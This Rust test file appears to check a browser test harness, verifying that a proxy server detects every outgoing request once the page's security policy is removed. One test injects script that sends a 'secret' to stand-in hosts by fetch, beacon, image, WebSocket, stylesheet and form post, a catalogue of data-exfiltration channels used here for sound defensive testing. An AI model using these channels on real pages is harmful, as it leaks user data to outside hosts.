//! The means of the other tests, tested first.

use junheng_e2e::{Browser, By, Policy, Setup};

/// The server that stands between the browser and the world sees requests of every kind once no
/// policy forbids them: without this, a test that finds none would prove nothing.
#[test]
fn the_server_notices_what_leaves_the_page() {
    let browser = Browser::with(Setup {
        policy: Policy::Removed,
        ..Setup::default()
    });
    browser.go_site("index.html");
    browser.server.forget();
    browser.script(
        "fetch('http://fetch.test/a?secret', {method: 'POST', mode: 'no-cors', body: 'secret'}).catch(() => {});
         new Image().src = 'http://image.test/b';
         navigator.sendBeacon('http://beacon.test/c', 'secret');
         try { new WebSocket('ws://socket.test/d'); } catch (refused) {}
         const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = 'http://style.test/e';
         document.head.append(style);
         const frame = document.createElement('iframe'); frame.name = 'sink'; document.body.append(frame);
         const form = document.createElement('form'); form.method = 'post'; form.action = 'http://form.test/f';
         form.target = 'sink'; document.body.append(form); form.submit();",
        &[],
    );
    for host in ["fetch", "image", "beacon", "socket", "style", "form"] {
        browser.until(&format!("the server to see the {host}"), || {
            let seen = browser.server.foreign();
            seen.iter()
                .any(|request| request.host.starts_with(&format!("{host}.test")))
                .then_some(())
        });
    }
}

/// The browser on its own asks nobody for anything, so that whatever arrives is the page's doing.
#[test]
fn the_browser_alone_is_silent() {
    let browser = Browser::open();
    browser.go("about:blank");
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert_eq!(browser.server.requests(), []);
    assert!(browser.has(By::Css("body")));
}
